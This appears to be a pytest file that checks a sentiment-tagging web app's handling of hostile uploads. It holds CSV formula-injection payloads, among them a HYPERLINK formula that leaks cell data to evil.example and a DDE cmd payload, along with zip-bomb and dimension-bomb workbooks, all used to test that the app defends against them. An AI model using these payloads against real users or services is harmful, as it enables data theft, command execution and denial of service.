"""Files built to hurt: formulas that would run in the shop's Excel, workbooks and CSVs that cost far more
to read than their size on the wire, and malformed cells that used to answer 500. Each is a reproducer
from the tester's report (issue 22), sent through every way a table goes in and out."""
from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from app import create_app
from conftest import NO_ZERO_SHOT, ROOT
from sentiment.bulk.formulas import TRIGGERS

EVIL = ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', "=cmd|' /C calc'!A0", "+1+2", "-3+4", "@SUM(A1)",
        "\t=1", "\r=1"]


def make_client(tmp_path: Path, **config):
    return create_app({"TESTING": True, "SENTIMENT_MODEL": "bundled-lite", "SENTIMENT_ZERO_SHOT_MODEL": NO_ZERO_SHOT,
                       "SENTIMENT_DATA_DIR": str(tmp_path), **config}).test_client()


def post_file(client, data: bytes, name: str, route: str = "/api/sentiment/file", **form: str):
    return client.post(route, data={"file": (io.BytesIO(data), name), **form}, content_type="multipart/form-data")


def evil_csv() -> bytes:
    rows = [["评论", "=HYPERLINK(\"http://evil.example\",\"h\")"]] + [[text, text] for text in EVIL]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode()


def assert_no_formula(data: bytes, kind: str) -> None:
    """Opened as a spreadsheet would open it: no formula cell in a workbook, no CSV cell a spreadsheet
    would evaluate; and the user's text is still there."""
    if kind == "xlsx":
        from openpyxl import load_workbook

        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            sheet = next(n for n in archive.namelist() if n.startswith("xl/worksheets/"))
            assert b"<f>" not in archive.read(sheet) and b"<f " not in archive.read(sheet)
        cells = [cell for row in load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]
        assert cells and all(cell.data_type != "f" for cell in cells)
        same = lambda text: str(text).replace("\r", "").replace("\n", "")  # XML reads a CR as LF
        assert {same(text) for text in EVIL} <= {same(cell.value) for cell in cells}
    else:
        delimiter = "\t" if kind == "tsv" else ","
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))
        cells = [cell for row in rows for cell in row]
        assert cells and not [cell for cell in cells if cell.startswith(TRIGGERS)]
        assert {"'" + text for text in EVIL} <= set(cells)


@pytest.mark.parametrize("kind", ["csv", "tsv", "xlsx"])
def test_no_output_of_a_tagged_file_holds_a_live_formula(tmp_path, kind):
    client = make_client(tmp_path)
    response = post_file(client, evil_csv(), "evil.csv", format=kind)
    assert response.status_code == 200, response.get_json()
    assert_no_formula(response.data, kind)
    job = post_file(client, evil_csv(), "evil.csv", route="/api/jobs", format=kind).get_json()
    for _ in range(600):
        status = client.get(f"/api/jobs/{job['id']}").get_json()
        if status["state"] == "done":
            break
        time.sleep(0.05)
    assert_no_formula(client.get(f"/api/jobs/{job['id']}/result").data, kind)


def test_the_pages_workbook_and_the_cli_write_formulas_as_text(tmp_path):
    client = make_client(tmp_path)
    response = client.post("/api/table/xlsx", json={"name": "r.xlsx", "columns": ["评论", "=1+1"],
                                                    "rows": [[text, text] for text in EVIL]})
    assert response.status_code == 200
    assert_no_formula(response.data, "xlsx")
    source = tmp_path / "evil.csv"
    source.write_bytes(evil_csv())
    for kind in ("csv", "xlsx"):
        out = tmp_path / f"out.{kind}"
        done = subprocess.run([sys.executable, "-m", "sentiment", "tag", str(source), "-o", str(out)], cwd=ROOT,
                              capture_output=True, text=True, timeout=120,
                              env={"SENTIMENT_MODEL": "bundled-lite", "PATH": "/usr/bin:/bin"})
        assert done.returncode == 0, done.stderr
        assert_no_formula(out.read_bytes(), kind)


def workbook(sheet_xml: str, shared: str | None = None, styles: str | None = None, pad: int = 0) -> bytes:
    """A minimal .xlsx around the given sheet XML (and shared strings, styles), as a hostile tool writes one;
    ``pad`` bytes of whitespace inside the sheet make a zip bomb."""
    types = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
             '<Default Extension="xml" ContentType="application/xml"/>'
             '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
             '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
             + ('<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>' if shared else "")
             + ('<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>' if styles else "")
             + '</Types>')
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    root_rels = (f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>')
    book = ('<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            f'xmlns:r="{rel}"><sheets><sheet name="评价" sheetId="1" r:id="rId1"/></sheets></workbook>')
    book_rels = (f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/>'
                 + (f'<Relationship Id="rId2" Type="{rel}/sharedStrings" Target="sharedStrings.xml"/>' if shared else "")
                 + (f'<Relationship Id="rId3" Type="{rel}/styles" Target="styles.xml"/>' if styles else "")
                 + '</Relationships>')
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    sheet = f'<?xml version="1.0"?><worksheet {main}>{" " * pad}{sheet_xml}</worksheet>'
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", root_rels)
        archive.writestr("xl/workbook.xml", book)
        archive.writestr("xl/_rels/workbook.xml.rels", book_rels)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        if shared:
            archive.writestr("xl/sharedStrings.xml", f'<?xml version="1.0"?><sst {main}>{shared}</sst>')
        if styles:
            archive.writestr("xl/styles.xml", f'<?xml version="1.0"?><styleSheet {main}>{styles}</styleSheet>')
    return buffer.getvalue()


def inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


HEADER = f'<row r="1">{inline("A1", "评论")}</row><row r="2">{inline("A2", "很好吃")}</row>'
DIMENSION_BOMB = workbook('<dimension ref="A1:XFD1048576"/><sheetData>' + HEADER
                          + f'<row r="1048576">{inline("XFD1048576", "x")}</row></sheetData>')
DIMENSION_ONLY = workbook('<dimension ref="A1:XFD1048576"/><sheetData>' + HEADER
                          + f'<row r="1048576">{inline("A1048576", "太难吃了")}</row></sheetData>')
ZIP_BOMB = workbook(f"<sheetData>{HEADER}</sheetData>", pad=60 * 1024 * 1024)
WIDTH_BOMB = ("\n".join([",".join(["好"] * 4000)] * 10) + "\n").encode()


@pytest.mark.parametrize("route", ["/api/sentiment/file", "/api/table", "/api/jobs"])
@pytest.mark.parametrize("data, name, code", [
    (DIMENSION_BOMB, "bomb.xlsx", "too_many_columns"),
    (ZIP_BOMB, "bomb.xlsx", "file_too_expanded"),
    (WIDTH_BOMB, "wide.csv", "too_many_columns"),
])
def test_a_file_that_costs_far_more_than_its_size_is_refused_at_once(tmp_path, route, data, name, code):
    client = make_client(tmp_path, SENTIMENT_JOB_MAX_BYTES=20 * 1024 * 1024)
    started = time.monotonic()
    response = post_file(client, data, name, route=route)
    body = response.get_json()
    assert response.status_code == 413 and body["code"] == code and body["error"], body
    assert time.monotonic() - started < 5
    assert len(data) < 200_000  # what arrives is small: the cost is in what it declares or inflates to


def test_a_declared_dimension_is_not_walked(tmp_path):
    """Rows 1, 2 and 1,048,576 of a sheet that claims to be A1:XFD1048576: two rows are read, fast."""
    started = time.monotonic()
    response = post_file(make_client(tmp_path), DIMENSION_ONLY, "far.xlsx", format="jsonl")
    assert response.status_code == 200, response.get_json()
    rows = [json.loads(line) for line in response.data.decode().splitlines()]
    assert [row["评论"] for row in rows] == ["很好吃", "太难吃了"] and time.monotonic() - started < 5


def test_cells_and_reading_time_are_bounded(tmp_path):
    client = make_client(tmp_path, SENTIMENT_MAX_FILE_CELLS=5000)
    wide = ("\n".join([",".join(["评论"] + [f"c{at}" for at in range(49)])] + [",".join(["好"] * 50)] * 200)).encode()
    body = post_file(client, wide, "w.csv").get_json()
    assert body["code"] == "too_many_cells" and body["max_cells"] == 5000
    slow = make_client(tmp_path, SENTIMENT_REQUEST_SECONDS=0.001)
    response = post_file(slow, b"text\n" + b"\n" * 200_000, "blank.txt", route="/api/table")
    assert response.status_code == 413 and response.get_json()["code"] == "file_read_timeout"


@pytest.mark.parametrize("sheet, shared, styles", [
    ('<sheetData><row r="1">' + inline("A1", "评论") + '</row><row r="2"><c r="A2" t="n"><v>notanumber</v></c></row></sheetData>',
     None, None),
    ('<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="2"><c r="A2" t="s"><v>99</v></c></row></sheetData>',
     "<si><t>评论</t></si>", None),
    ('<sheetData><row r="1">' + inline("A1", "评论") + '</row><row r="2"><c r="A2" t="d"><v>yesterday</v></c></row></sheetData>',
     None, None),
    ('<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData>', "<si><t>评论", None),
])
def test_a_malformed_workbook_is_a_400_that_names_no_parser_internals(tmp_path, sheet, shared, styles):
    response = post_file(make_client(tmp_path), workbook(sheet, shared, styles), "bad.xlsx")
    body = response.get_json()
    assert response.status_code == 400 and body["code"] == "invalid_file", body
    assert not any(word in body["error"] for word in ("Error", "Exception", "Traceback", "lxml", "openpyxl"))


def test_odd_json_lines_names_and_cells_never_answer_500(tmp_path):
    client = make_client(tmp_path)
    deep = post_file(client, b'{"text": "ok"}\n' + b"[" * 100_000 + b"\n", "deep.jsonl")
    assert deep.status_code == 400 and deep.get_json()["code"] == "invalid_file"
    nested = post_file(client, '{"text": "很好", "meta": {"a": [1, 2]}}\n'.encode(), "n.jsonl", format="xlsx")
    assert nested.status_code == 200
    from openpyxl import load_workbook

    values = list(load_workbook(io.BytesIO(nested.data)).active.iter_rows(values_only=True))
    assert values[1][1] == '{"a": [1, 2]}'
    control = post_file(client, "text,a\x01b\n很好,1\n".encode(), "c.csv", format="xlsx")
    assert control.status_code == 200
    assert list(load_workbook(io.BytesIO(control.data)).active.iter_rows(values_only=True))[0][:2] == ("text", "ab")
    named = client.post("/api/table/xlsx", json={"name": "a\r\nX", "columns": ["a"], "rows": [["b"]]})
    assert named.status_code == 200 and "\n" not in named.headers["Content-Disposition"]


def test_teaching_is_bounded_in_labels(tmp_path):
    client = make_client(tmp_path)
    examples = [{"text": f"第{label}类的例子{at}", "label": f"标签{label}"} for label in range(100) for at in range(4)]
    response = client.post("/api/classifiers", json={"name": "多", "examples": examples})
    body = response.get_json()
    assert response.status_code == 400 and body["code"] == "too_many_labels" and body["max_labels"] == 20


def test_a_file_over_the_row_limit_is_refused_before_any_row_is_tagged(tmp_path):
    client = make_client(tmp_path, SENTIMENT_MAX_FILE_ROWS=1000)

    def classified() -> list[str]:
        return [line for line in client.get("/metrics").data.decode().splitlines()
                if line.startswith("sentiment_texts_classified_total")]

    before, started = classified(), time.monotonic()
    response = post_file(client, ("\n".join(["很好吃，下次还来"] * 1001) + "\n").encode(), "many.txt")
    assert response.status_code == 400 and response.get_json()["code"] == "too_many_rows"
    assert classified() == before and time.monotonic() - started < 5  # not one text reached the model


def test_content_types_name_their_charset_once(tmp_path):
    client = make_client(tmp_path)
    for kind, expected in (("csv", "text/csv; charset=utf-8"), ("tsv", "text/tab-separated-values; charset=utf-8"),
                           ("jsonl", "application/x-ndjson; charset=utf-8")):
        response = post_file(client, "text\n好\n".encode(), "a.csv", format=kind)
        assert response.headers["Content-Type"] == expected
    assert client.get("/metrics").headers["Content-Type"].count("charset") == 1


def test_a_job_refused_part_way_leaves_nothing_on_disk(tmp_path):
    client = make_client(tmp_path, SENTIMENT_JOB_MAX_ROWS=1500, SENTIMENT_JOB_CHUNK_ROWS=500)
    response = post_file(client, ("text\n" + "很好\n" * 1501).encode(), "many.csv", route="/api/jobs")
    assert response.status_code == 400 and response.get_json()["code"] == "too_many_rows"
    assert [p for p in (tmp_path / "jobs").iterdir() if p.is_dir()] == []


def test_a_job_with_a_control_character_in_its_header_writes_its_workbook(tmp_path):
    """It used to reach done, then answer Gunicorn's HTML 500 on /result for ever."""
    from openpyxl import load_workbook

    client = make_client(tmp_path)
    job = post_file(client, "text,a\x01b\n很好,1\n".encode(), "c.csv", route="/api/jobs", format="xlsx").get_json()
    for _ in range(600):
        if client.get(f"/api/jobs/{job['id']}").get_json()["state"] == "done":
            break
        time.sleep(0.05)
    result = client.get(f"/api/jobs/{job['id']}/result")
    assert result.status_code == 200
    assert list(load_workbook(io.BytesIO(result.data)).active.iter_rows(values_only=True))[0][:2] == ("text", "ab")


def test_teaching_stops_at_the_request_budget(tmp_path):
    from test_custom_api import examples

    client = make_client(tmp_path, SENTIMENT_REQUEST_SECONDS=0.001)
    response = client.post("/api/classifiers", json={"name": "慢", "examples": examples()})
    assert response.status_code == 503 and response.get_json()["code"] == "request_timeout"
    assert client.get("/api/classifiers").get_json()["classifiers"] == []  # nothing half-taught was kept
